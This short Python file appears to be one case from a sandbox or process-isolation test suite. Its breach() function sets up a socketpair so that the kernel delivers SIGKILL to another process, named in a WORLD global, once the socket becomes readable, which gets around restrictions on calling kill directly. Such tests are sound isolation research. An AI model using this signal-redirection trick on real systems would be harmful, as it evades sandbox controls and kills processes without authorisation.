"""Exhaust: has the kernel send SIGKILL to another process when a socket of its own becomes readable.

breaches: process naive
"""

import fcntl
import os
import signal
import socket

F_SETSIG = 10


def breach():
    ours, theirs = socket.socketpair()
    fcntl.fcntl(ours, fcntl.F_SETOWN, WORLD["pid"])  # noqa: F821
    fcntl.fcntl(ours, F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    theirs.send(b"now")
    return False
